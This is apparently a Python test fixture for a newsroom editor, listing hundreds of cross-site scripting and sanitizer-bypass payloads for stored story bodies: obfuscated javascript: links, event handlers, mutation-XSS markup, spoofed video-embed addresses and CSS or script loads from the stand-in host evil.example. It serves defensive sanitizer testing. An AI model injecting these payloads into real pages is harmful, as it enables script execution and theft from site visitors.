"""Attacks on the body of a story, for the tests that store and show them."""
# ruff: noqa: E501  an attack is not folded

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script foo>",
    "<script/xss src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>",
    "<p onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER='alert(1)'>x</p>",
    "<p/onclick=alert(1)//>x",
    "<p\x0conclick\x0c=alert(1)>x</p>",
    "<p onclick\x00=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;cript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href=' \x01 javascript:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='ｊａｖａｓｃｒｉｐｔ:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a title='<table><img src=x onerror=alert(1)>' href=/>x</a>",
    "<a title='&lt;table&gt;&quot; onclick=alert(1) x=&quot;' href=/>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<form action='javascript:alert(1)'><button>x</button><input formaction=javascript:x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p>\u0338 onmouseover=alert(1)>x</p>",
    "<p>&#x338; onmouseover=alert(1)>x</p>",
    "<p>&NotGreaterFullEqual; onmouseover=alert(1)>x</p>",
    "<p>x\u226e</p><p\u0338 onclick=alert(1)>",
    "<a href='/x\u0338' onclick=alert(1)>x</a>",
    "<p>&lt;\u0338script>alert(1)&lt;/script></p>",
    "\u02bcscript\u02bd<img src=`x`onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<p id=x class=y data-x=z contenteditable>x</p>",
    "<a href=https://example.org target=_blank ping=//evil.example download>x</a>",
    "<td background='javascript:alert(1)'>x</td>",
    "<p",
    "<p onclick='alert(1)",
    "<a href='javascript:alert(1)",
    "<script>alert(1)",
    "<p>x</p><script",
    "\x00<\x00script\x00>alert(1)\x00<\x00/script\x00>",
]

# --- Figures, videos and quotations as carriers ----------------------------------------------

_CARRIERS = [
    '<figure data-photo="1" data-alt="{}" data-credit="{}"><figcaption>x</figcaption></figure>',
    '<figure data-photo="1"><figcaption>{}</figcaption></figure>',
    '<figure data-photo="{}" class="align-left {}" data-decorative="{}"></figure>',
    '<figure data-embed="https://youtu.be/dQw4w9WgXcQ"><figcaption>{}</figcaption></figure>',
    '<figure data-embed="{}"><figcaption>x</figcaption></figure>',
    '<figure data-embed="https://www.youtube.com/watch?v=dQw4w9WgXcQ{}"></figure>',
    '<img alt="{}" src="{}">',
    '<a href="/x" title="{}">x</a>',
    '<blockquote class="pull {}"><p>{}</p></blockquote>',
    '<table><caption>{}</caption><tr><th scope="{}" colspan="{}">x</th></tr></table>',
    '<ol start="{}"><li>{}</li></ol>',
    '<p class="MsoListParagraph" style="mso-list:{}"><span style="mso-list:Ignore">{}</span>x</p>',
]
_LOADS = [
    '"><img src=x onerror=alert(1)>',
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&amp;quot;&amp;gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "x\u0338 onclick=alert(1)",
    "&gt;&#x338; onmouseover=alert(1) ",
    "</figcaption></figure><script>alert(1)</script>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}{% load x %}",
]
ATTACKS += [carrier.replace("{}", load) for carrier in _CARRIERS for load in _LOADS]

# Addresses that look like those of a service, or go elsewhere.
ATTACKS += [
    f'<figure data-embed="{address}"><figcaption>x</figcaption></figure>'
    for address in (
        "javascript:alert(1)//https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "data:text/html,<script>alert(1)</script>",
        "https://www.youtube.com.evil.example/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ",
        "https://evil.example/www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com:8080/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com\\@evil.example/watch?v=dQw4w9WgXcQ",
        "//www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://www.facebook.com/plugins/video.php?href=https://evil.example",
        "https://www.facebook.com/watch/?v=1&quot; onload=alert(1) x=&quot;",
        "https://www.tiktok.com/@x/video/1234567890?x=<script>",
        "https://[::1/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com/redirect?q=https://evil.example",
    )
]

# --- The public lists ------------------------------------------------------------------------
#
# After OWASP's filter evasion cheat sheet, PortSwigger's list of events and tags, and the
# mutations published against DOMPurify, Bleach and Google's Closure sanitizer.

_EVENTS = (
    "onabort onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch "
    "onbeforetoggle onblur oncanplay onclick onclose oncontentvisibilityautostatechange "
    "oncopy oncut ondblclick ondrag ondrop onerror onfocus onfocusin ongesturestart onhashchange "
    "oninput onkeydown onload onloadstart onmessage onmousedown onmouseenter onmouseover onmousewheel "
    "onpageshow onpaste onplay onpointerenter onpointerrawupdate onpopstate onresize onscroll "
    "onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectstart "
    "onslotchange onstart onsubmit ontimeupdate ontoggle ontouchstart ontransitionend "
    "ontransitionrun onunhandledrejection onunload onwebkitanimationstart onwheel"
).split()
_TAGS = (
    "a abbr acronym address animate animatemotion animatetransform applet area article aside audio "
    "b base bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col "
    "colgroup command content custom-tag data datalist dd del details dfn dialog dir div dl dt "
    "element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 head "
    "header hgroup hr html i iframe image img input ins kbd keygen label legend li link listing main "
    "map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes "
    "noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp "
    "rt ruby s samp script search section select selectedcontent set shadow slot small source spacer "
    "span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead "
    "time title tr track tt u ul var video wbr xmp x"
).split()
ATTACKS += [f"<p {event}=alert(1) tabindex=1 autofocus>x</p>" for event in _EVENTS]
ATTACKS += [
    f"<{tag} src=x href=javascript:alert(1) data=javascript:alert(1) onload=alert(1) "
    f"onerror=alert(1) onfocus=alert(1) autofocus tabindex=1 style=animation-name:x>x</{tag}>"
    for tag in _TAGS
]
ATTACKS += [
    f"<a href='{address}'>x</a>"
    for address in (
        *(f"java{chr(code)}script:alert(1)" for code in (0, 1, 9, 10, 13, 32, 0xA0, 0x2028, 0xFEFF)),
        *(f"{chr(code)}javascript:alert(1)" for code in (1, 8, 9, 11, 12, 14, 27, 31, 0x3000)),
        "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#0000058alert(1)",
        "&Tab;javascript:alert(1)", "java&NewLine;script:alert(1)", "javascript\u2236alert(1)",
        "jAvAsCrIpT&colon;alert&lpar;1&rpar;", "JAVASCRIPT:alert(1)", "javascript://%0aalert(1)",
        "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "livescript:alert(1)",
        "mocha:alert(1)", "jar:https://evil.example!/x", "ms-its:x", "x-javascript:alert(1)",
        "data:image/svg+xml,<svg onload=alert(1)>", "data:,alert(1)", "data:text/javascript,alert(1)",
        "filesystem:https://evil.example/x", "intent://x#Intent;scheme=http;end", "about:blank",
    )
]  # fmt: skip
# Names and ids that would stand in the way of scripts of the page.
ATTACKS += [
    f"<{tag} id={name} name={name}>x</{tag}>"
    for name in (
        "CKEDITOR",
        "django",
        "forms",
        "cookie",
        "getElementById",
        "__proto__",
        "attributes",
    )
    for tag in ("a", "form", "img", "p", "figure")
]
# Markup that a second parser reads differently from the first.
_MXSS = [
    "<{ns}><{inner}><{raw}><img title='</{raw}><img src=x onerror=alert(1)>'>",
    "<{ns}><{inner}><{raw}></{ns}><img src=x onerror=alert(1)></{raw}>",
    "<form><{ns}><{inner}></form><form><{raw}></{ns}><img src=x onerror=alert(1)>",
    "<{ns}></p><{raw}><a title='</{raw}><img src=x onerror=alert(1)>'>",
    "<table><{ns}><{inner}><tr><td><{raw}></table><img src=x onerror=alert(1)></{raw}>",
    "<figure><{ns}><figcaption><{raw}><a title='</{raw}></figure><img src=x onerror=alert(1)>'>",
    "<{ns}><{inner}><p><{raw}><!--</{raw}><a title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
]
ATTACKS += [
    shape.format(ns=ns, inner=inner, raw=raw)
    for shape in _MXSS
    for ns, inner in (
        ("svg", "desc"), ("svg", "title"), ("svg", "foreignObject"), ("math", "mtext"),
        ("math", "mi"), ("math", "annotation-xml encoding=text/html"),
    )
    for raw in ("style", "script", "noscript", "title", "textarea", "xmp", "iframe", "noembed",
                "noframes", "plaintext", "template", "select")
]  # fmt: skip
ATTACKS += [
    f"<{tag} style=\"{rule}\">x</{tag}>"
    for tag in ("p", "span", "td", "figure", "font")
    for rule in (
        "background:url(https://evil.example/x)", "behavior:url(x.htc)", "width:expression(alert(1))",
        "-moz-binding:url(https://evil.example/x)", "list-style-image:url(//evil.example/x)",
        "position:fixed;inset:0;z-index:9999", "font-weight:700&quot; onclick=alert(1) x=&quot;",
        "mso-list:l0 level1;background:url(//evil.example/x)", "content:url(//evil.example/x)",
    )
]  # fmt: skip
ATTACKS += [
    '<img srcset="https://evil.example/x 1x" sizes=1>',
    '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
    '<video poster="https://evil.example/x"><track src="https://evil.example/t" default></video>',
    '<input type=image src="https://evil.example/x">',
    '<body background="https://evil.example/x">',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x',
    '<svg><image href="https://evil.example/x"/><use href="https://evil.example/x#a"/></svg>',
    '<link rel=preload as=script href="https://evil.example/x.js"><link rel=dns-prefetch href=//x>',
    "<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=a=b>",
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload=alert(1)></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>">x',
    "<a title='<iframe src=\"https://youtu.be/dQw4w9WgXcQ\"></iframe>' onclick=alert(1)>x</a>",
    "<a title=\"<iframe src='https://youtu.be/dQw4w9WgXcQ'></iframe><img src=x onerror=alert(1)>\">x",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<p>{% load static %}{{ request }}{% include 'x' %}</p>",
    "<cke:script>alert(1)</cke:script>",
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->",
    "<!--{cke_protected}{C}%3C!%2D%2D%3E%3Cimg%20src=x%20onerror=alert(1)%3E%2D%2D%3E-->",
    '<p data-cke-pa-onclick="alert(1)" data-cke-saved-href="javascript:alert(1)">x</p>',
    '<a data-cke-saved-href="javascript:alert(1)" href="/x">x</a>',
    '<p data-cke-widget-data="%7B%22x%22%3A1%7D" data-widget="image" contenteditable=true>x</p>',
]

ATTACKS = list(dict.fromkeys(ATTACKS))


def in_a_row(html):
    """``html`` as a column of any of our databases can hold it: PostgreSQL refuses NUL."""
    return html.replace("\x00", "")
